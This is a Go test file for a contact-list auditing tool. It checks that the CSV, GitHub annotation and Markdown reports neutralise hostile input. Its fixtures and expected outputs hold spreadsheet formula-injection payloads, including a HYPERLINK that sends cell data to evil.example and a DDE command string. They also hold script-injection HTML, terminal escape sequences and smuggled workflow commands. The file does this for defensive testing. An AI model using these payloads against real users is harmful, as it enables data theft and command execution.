package report

import (
	"bytes"
	"encoding/csv"
	"iter"
	"maps"
	"strings"
	"testing"
	"unicode"

	"github.com/listaudit/listaudit/pkg/domain"
)

// TestCSVInjection reads the CSV of hostile cells back and checks that no
// cell a spreadsheet would evaluate is left as is.
func TestCSVInjection(t *testing.T) {
	out := render(t, "csv", hostileFixture(), Options{})
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, out)
	}
	if got := strings.Join(records[0], ","); got != "file,row,line,rule,severity,column,value,number,message" {
		t.Errorf("header = %s", got)
	}
	for i, rec := range records[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d column %s: cell %q starts with a formula character", i+1, records[0][j], cell)
			}
		}
	}
	for _, want := range [][2]string{
		{"file", `'=evil,dir/con:tacts.csv`},
		{"value", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"message", `'=HYPERLINK("http://evil.example","x")`},
		{"column", `'=cmd|' /C calc'!A0`},
		{"value", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"message", "'@SUM(A1:A9)"},
		{"value", "'-2+3"},
		{"column", "'-col"},
		{"value", "' =1"}, // tabs and line breaks become spaces, after the quote
		{"message", "' =1 tab first"},
		{"column", "' col"},
		{"value", "' =1"},
		{"value", "'+1+1"},
		{"number", "'+2547******78"},
	} {
		col := strings.Index("file,row,line,rule,severity,column,value,number,message,", want[0]+",")
		idx := strings.Count("file,row,line,rule,severity,column,value,number,message"[:col], ",")
		found := false
		for _, rec := range records[1:] {
			if rec[idx] == want[1] {
				found = true
			}
		}
		if !found {
			t.Errorf("no %s cell %q in\n%s", want[0], want[1], out)
		}
	}
	// Harmless cells are left alone.
	if !strings.Contains(string(out), "\nexports/crm.tsv,1,2,duplicate,warning,msisdn,") {
		t.Errorf("plain cells changed:\n%s", out)
	}
}

// TestCSVControlCharacters checks text from the list is made printable as
// the table makes it: an escape sequence in a cell, a header or a file name
// would drive the terminal of whoever prints the CSV.
func TestCSVControlCharacters(t *testing.T) {
	r := fixture()
	f := &r.Findings.(domain.FindingSlice)[0]
	f.Field, f.Column, f.Value = domain.FieldConsentAt, "con\x1b]0;title\asent", "x\x1b[31mred\x01\x7f\u0085\u202e"
	f.Message = "tab\there, line\nbreak\r\nand \x1b[2J"
	f.Loc.File = "dir/\x1b[1mlist.csv"
	out := string(render(t, "csv", r, Options{}))
	if want := "dir/?[1mlist.csv,2,3,consent-missing,error,con?]0;title?sent,x?[31mred????,'+2547******78,\"tab here, line break  and ?[2J\"\n"; !strings.Contains(out, "\n"+want) {
		t.Errorf("first finding's row not made printable; want %q in\n%s", want, out)
	}
	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) }); i >= 0 {
		t.Errorf("control character %q at %d in\n%s", out[i], i, out)
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "abc": "abc", "=1": "'=1", "+2547******78": "'+2547******78", "-": "'-", "@x": "'@x",
		"\t=1": "'\t=1", "\r=1": "'\r=1", " =1": " =1", "'=1": "''=1", "a=1": "a=1",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestGitHubEscaping(t *testing.T) {
	for in, want := range map[string]string{
		"100% sure":      "100%25 sure",
		"a\r\nb":         "a%0D%0Ab",
		"x::error::evil": "x::error::evil",
		"%0A":            "%250A",
		"tab\tbell\a":    "tab\tbell?",
	} {
		if got := githubData(in); got != want {
			t.Errorf("githubData(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"dir/a,b:c.csv": "dir/a%2Cb%3Ac.csv",
		"50%\n":         "50%25%0A",
	} {
		if got := githubProperty(in); got != want {
			t.Errorf("githubProperty(%q) = %q, want %q", in, got, want)
		}
	}

	out := string(render(t, "github", hostileFixture(), Options{}))
	for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if !strings.HasPrefix(line, "::error ") && !strings.HasPrefix(line, "::warning ") && !strings.HasPrefix(line, "::notice") {
			t.Errorf("line %d is not a workflow command: %q", i+1, line)
		}
		if strings.ContainsAny(line, "\r") {
			t.Errorf("line %d holds a carriage return: %q", i+1, line)
		}
		// The properties end at the first "::" after the command name.
		props := line[strings.Index(line, " ")+1:]
		if j := strings.Index(props, "::"); j >= 0 {
			props = props[:j]
		}
		for _, p := range strings.Split(props, ",") {
			if p != "" && !strings.HasPrefix(p, "file=") && !strings.HasPrefix(p, "line=") && !strings.HasPrefix(p, "title=") {
				t.Errorf("line %d: property %q (a comma or colon escaped badly)", i+1, p)
			}
		}
	}
	if !strings.Contains(out, "::warning file==evil%2Cdir/con%3Atacts.csv,line=9,title=consent-expired::Consent date: a | b") ||
		!strings.Contains(out, "h%0Anext::error::x %250A 50%25, i:j") {
		t.Errorf("hostile message not escaped as expected:\n%s", out)
	}
}

// TestGitHubCap checks the cap is per kind, as GitHub shows at most 10
// annotations of each kind per step (it was per rule, which let 13 errors
// through and hid the verdict, written last): the verdict comes first and
// takes a slot of its kind, each rule gets one annotation before any gets
// a second, and a plain line counts the rest.
func TestGitHubCap(t *testing.T) {
	r := manyFindings(120) // 20 findings for each of 6 rules: 2 error, 3 warning, 1 info
	out := string(render(t, "github", r, Options{}))
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if want := "::error title=listaudit::✗ FAILED: 40 errors, 60 warnings, 20 info in 2 files (fail-on: error)"; lines[0] != want {
		t.Errorf("first line %q, want the verdict %q", lines[0], want)
	}
	kinds := map[string]int{}
	for _, line := range lines {
		kinds[strings.SplitN(line, " ", 2)[0]]++
	}
	if want := map[string]int{"::error": 10, "::warning": 10, "::notice": 10, "listaudit:": 1}; !maps.Equal(kinds, want) {
		t.Errorf("lines by kind %v, want %v:\n%s", kinds, want, out)
	}
	for rule, want := range map[string]int{"phone-invalid": 5, "consent-missing": 4, "duplicate": 4, "stale": 3, "phone-not-e164": 3, "value-invalid": 10} {
		if got := strings.Count(out, "title="+rule+"::"); got != want {
			t.Errorf("%d %s annotations, want %d", got, rule, want)
		}
	}
	if want := "listaudit: 91 findings not annotated (at most 10 annotations of each kind per step, as GitHub shows no more): 16 consent-missing, 15 phone-invalid, 16 duplicate, 17 phone-not-e164, 17 stale, 10 value-invalid. " +
		"See every finding in a full report: --report json=FILE, csv=FILE or sarif=FILE."; lines[len(lines)-1] != want {
		t.Errorf("last line %q, want %q", lines[len(lines)-1], want)
	}

	// A passing run's verdict is a notice, and takes a notice's slot.
	pass := manyFindings(120)
	pass.Verdict.Failed = false
	if got := strings.Count(string(render(t, "github", pass, Options{})), "::notice file="); got != 9 {
		t.Errorf("passing run: %d info annotations besides the verdict, want 9", got)
	}

	out = string(render(t, "github", r, Options{AnnotationsPerKind: -1}))
	if got := strings.Count(out, "title=phone-invalid::"); got != 20 || strings.Contains(out, "not annotated") {
		t.Errorf("uncapped: %d phone-invalid annotations, want 20 and no count of the rest", got)
	}
	if first := out[:strings.Index(out, "\n")+1]; first != "::error title=listaudit::✗ FAILED: 40 errors, 60 warnings, 20 info in 2 files (fail-on: error)\n" {
		t.Errorf("uncapped: first line %q, want the verdict", first)
	}
}

// TestGitHubPath checks an annotation names its file as cleaned, the path
// GitHub finds in the repository.
func TestGitHubPath(t *testing.T) {
	r := fixture()
	f := &r.Findings.(domain.FindingSlice)[0]
	f.Loc.File = "./testdata//contacts.csv"
	if out := string(render(t, "github", r, Options{})); !strings.Contains(out, "\n::error file=testdata/contacts.csv,line=3,title=consent-missing::") {
		t.Errorf("path not cleaned:\n%s", out)
	}
}

func TestMarkdownEscaping(t *testing.T) {
	for in, want := range map[string]string{
		"a | b":               `a \| b`,
		"*x* _y_ `z` ~s~ $m$": "\\*x\\* \\_y\\_ \\`z\\` \\~s\\~ \\$m\\$",
		"[l](http://x)":       "\\[l\\](http:\u200d//x)",
		// GitHub links mentions, references, e-mail addresses and URLs
		// after rendering: a zero-width joiner breaks each.
		"@octocat please see #1 www.evil.example http://evil.example/x WWW.a.b a@b.example": "@\u200doctocat please see #\u200d1 www\u200d.evil.example http:\u200d//evil.example/x WWW\u200d.a.b a@\u200db.example",
		"<img src=x> & </td>":   `\<img src=x\> \& \</td\>`,
		"line\nbreak\r\ttab":    "line break  tab",
		"back\\slash":           `back\\slash`,
		"bell\a \u202eevil":     "bell? ?evil",
		"plain: 5 (max 2), ok.": "plain: 5 (max 2), ok.",
	} {
		if got := markdownText(in); got != want {
			t.Errorf("markdownText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := markdownCode("+2547******78"); got != "`+2547******78`" {
		t.Errorf("markdownCode = %q", got)
	}
	if got := markdownCode("a`b|c"); got != "a\\`b\\|c" {
		t.Errorf("markdownCode with a backtick = %q", got)
	}

	out := string(render(t, "markdown", hostileFixture(), Options{}))
	for i, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "|") {
			continue
		}
		// Every row of a findings table has 4 cells: 5 unescaped pipes.
		unescaped := strings.Count(line, "|") - strings.Count(line, `\|`)
		if unescaped != 5 && unescaped != 4 && unescaped != 3 {
			t.Errorf("line %d has %d cell separators: %q", i+1, unescaped, line)
		}
		for _, bad := range []string{"<img", "</script", "](http", "*c*", "`e`"} {
			if j := strings.Index(line, bad); j >= 0 && (j == 0 || line[j-1] != '\\') {
				t.Errorf("line %d keeps markup %q unescaped: %q", i+1, bad, line)
			}
		}
	}
	if !strings.Contains(out, `| Consent date: a \| b \*c\* \_d\_ \[l\](http:`+"\u200d"+`//x) \<img src=x onerror=alert(1)\> \</script\>\<script\>alert(2)\</script\> \`+"`"+`e\`+"`"+` \~f\~ \$g\$ \& h next::error::x %0A 50%, i:j |`) {
		t.Errorf("hostile message not escaped as expected:\n%s", out)
	}
}

func TestMarkdownFirstFindingsPerRule(t *testing.T) {
	out := string(render(t, "markdown", manyFindings(60), Options{}))
	if got := strings.Count(out, "| `+2547"); got != 6*markdownPerRule {
		t.Errorf("%d finding rows, want %d", got, 6*markdownPerRule)
	}
	if !strings.Contains(out, "\n… and 5 more (see the full report).\n") {
		t.Errorf("no more line:\n%s", out)
	}
	if !strings.HasPrefix(out, "## ❌ listaudit: failed\n") {
		t.Errorf("heading: %q", out[:40])
	}
	pass := fixtureFailOn(domain.Threshold{Never: true})()
	if out := string(render(t, "markdown", pass, Options{})); !strings.HasPrefix(out, "## ✅ listaudit: passed\n") {
		t.Errorf("heading of a passing run: %q", out[:40])
	}
}

// TestDeterministic renders every format twice and compares.
func TestDeterministic(t *testing.T) {
	for _, name := range Formats() {
		a := render(t, name, manyFindings(300), Options{})
		b := render(t, name, manyFindings(300), Options{})
		if !bytes.Equal(a, b) {
			t.Errorf("%s output differs between two runs", name)
		}
	}
}

// TestUnknownRule checks a finding of a rule the catalogue lacks still
// shows in the formats that list rules.
func TestUnknownRule(t *testing.T) {
	r := fixture()
	r.Findings.(domain.FindingSlice)[0].Rule = "zz-custom"
	r.Decide()
	for _, name := range []string{"sarif", "junit", "html", "markdown"} {
		if out := render(t, name, r, Options{}); !bytes.Contains(out, []byte("zz-custom")) {
			t.Errorf("%s output does not name the unknown rule", name)
		}
	}
}

// TestCappedFormatsStopReading renders the github and markdown reports from
// findings that fail the test if read past the point where every rule has
// all it can show: the counts come from the summary, so a million findings
// need not all be read back.
func TestCappedFormatsStopReading(t *testing.T) {
	r := manyFindings(600) // 100 of each of six rules
	fs := r.Findings.(domain.FindingSlice)
	for _, tt := range []struct {
		format string
		cap    int
		more   string // how the report counts the left-out findings
	}{{"github", defaultAnnotationsPerKind, "90 value-invalid"}, {"markdown", markdownPerRule, "95 more"}} {
		// Where the last rule gets its cap-th finding.
		seen, need := map[string]int{}, 0
		for i := range fs {
			if seen[fs[i].Rule]++; seen[fs[i].Rule] == tt.cap {
				if need++; need == len(r.Summary.ByRule) {
					need = i + 1
					break
				}
			}
		}
		r.Findings = stopAfter{fs, t, need}
		out := string(render(t, tt.format, r, Options{}))
		if !strings.Contains(out, tt.more) {
			t.Errorf("%s: no %q count of the findings left out:\n%s", tt.format, tt.more, out)
		}
	}
}

// stopAfter yields a list's findings and fails the test when more than max
// are read.
type stopAfter struct {
	domain.FindingSlice
	t   *testing.T
	max int
}

func (s stopAfter) All() iter.Seq[*domain.Finding] {
	return func(yield func(*domain.Finding) bool) {
		for i := range s.FindingSlice {
			if i == s.max {
				s.t.Errorf("finding %d read: the report should have stopped at %d", i+1, s.max)
				return
			}
			f := s.FindingSlice[i]
			if !yield(&f) {
				return
			}
		}
	}
}
